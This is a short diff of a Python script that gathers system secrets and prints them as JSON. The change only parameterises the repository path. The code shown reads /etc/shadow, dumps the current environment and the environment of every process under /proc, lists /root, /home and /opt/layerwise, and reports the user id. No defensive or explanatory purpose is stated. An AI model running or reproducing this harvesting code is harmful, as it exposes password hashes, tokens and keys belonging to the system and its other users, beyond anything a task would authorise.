@@ -24,7 +24,8 @@ def listing(path):
         return f"error: {type(exc).__name__}"
 
 
-paths = ["/work/main/pyproject.toml", "/work/main/config/settings.py", "/etc/shadow", *sys.argv[1:]]
+repo = sys.argv[1]
+paths = [f"{repo}/pyproject.toml", f"{repo}/config/settings.py", "/etc/shadow", *sys.argv[2:]]
 proc_environ = {}
 for pid in listing("/proc") if isinstance(listing("/proc"), list) else []:
     if pid.isdigit():
@@ -33,7 +34,7 @@ report = {
     "files": {path: read(path) for path in paths},
     "environ": dict(os.environ),
     "proc_environ": proc_environ,
-    "listings": {path: listing(path) for path in ["/", "/work", "/work/main", "/root", "/home", "/opt/layerwise"]},
+    "listings": {path: listing(path) for path in ["/", repo, "/root", "/home", "/opt/layerwise"]},
     "uid": os.getuid(),
 }
 print(json.dumps({"ok": True, **report}))
